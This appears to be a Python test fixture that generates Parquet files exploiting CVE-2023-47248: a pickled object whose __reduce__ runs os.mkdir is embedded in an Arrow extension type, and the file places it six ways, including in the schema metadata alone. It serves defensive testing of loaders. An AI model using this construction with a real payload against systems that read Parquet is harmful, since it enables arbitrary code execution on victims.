"""Parquet files whose schema holds a pickle, as CVE-2023-47248 describes."""

import base64
import io
import os
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import pyarrow
import pyarrow.parquet


class _Payload:
    """Unpickled, it makes the folder `witness`."""

    def __init__(self, witness: Path) -> None:
        self.witness = str(witness)

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self.witness,)


class Hostile(pyarrow.ExtensionType):  # type: ignore[misc]
    """The type for which pyarrow unpickles what the file says of it."""

    def __init__(self, said: bytes) -> None:
        self.said = said
        super().__init__(pyarrow.string(), "arrow.py_extension_type")

    def __arrow_ext_serialize__(self) -> bytes:
        return self.said


class Point(pyarrow.ExtensionType):  # type: ignore[misc]
    """A type of somebody's own that brings no code along."""

    def __init__(self) -> None:
        super().__init__(pyarrow.string(), "example.point")

    def __arrow_ext_serialize__(self) -> bytes:
        return b""


def _texts(kind: pyarrow.DataType) -> pyarrow.ExtensionArray:
    return pyarrow.ExtensionArray.from_storage(kind, pyarrow.array(["a.png", "b.png"]))


def column(kind: pyarrow.DataType) -> bytes:
    return _written(_table(extra=_texts(kind)))


def _in_the_addresses(kind: pyarrow.DataType) -> bytes:
    return _written(_table(uri=_texts(kind)))


def _in_a_list(kind: pyarrow.DataType) -> bytes:
    return _written(_table(extra=pyarrow.ListArray.from_arrays(pyarrow.array([0, 1, 2]), _texts(kind))))


def _in_a_struct_in_a_list(kind: pyarrow.DataType) -> bytes:
    inner = pyarrow.StructArray.from_arrays([_texts(kind)], ["inner"])
    return _written(_table(extra=pyarrow.ListArray.from_arrays(pyarrow.array([0, 1, 2]), inner)))


def _without_rows(kind: pyarrow.DataType) -> bytes:
    return _written(_table(extra=_texts(kind)).slice(0, 0))


def _in_the_metadata_alone(kind: pyarrow.DataType) -> bytes:
    """The file's own columns are plain; only the Arrow schema that it keeps beside them is not."""
    claimed = base64.b64encode(_table(extra=_texts(kind)).schema.serialize().to_pybytes())
    return _written(_table().replace_schema_metadata({"ARROW:schema": claimed}))


_FORMS: Final[dict[str, Callable[[pyarrow.DataType], bytes]]] = {
    "in a column that is not read": column,
    "in the column of addresses": _in_the_addresses,
    "in a list": _in_a_list,
    "in a struct in a list": _in_a_struct_in_a_list,
    "in a table without rows": _without_rows,
    "in the metadata alone": _in_the_metadata_alone,
}
FORMS: Final = tuple(_FORMS)


def hostile(form: str, witness: Path) -> bytes:
    return _FORMS[form](Hostile(pickle.dumps(_Payload(witness))))


def _table(**columns: Any) -> pyarrow.Table:
    return pyarrow.table({"uri": ["a.png", "b.png"], "label": ["cat", "dog"]} | columns)


def _written(table: pyarrow.Table) -> bytes:
    file = io.BytesIO()
    pyarrow.parquet.write_table(table, file)
    return file.getvalue()
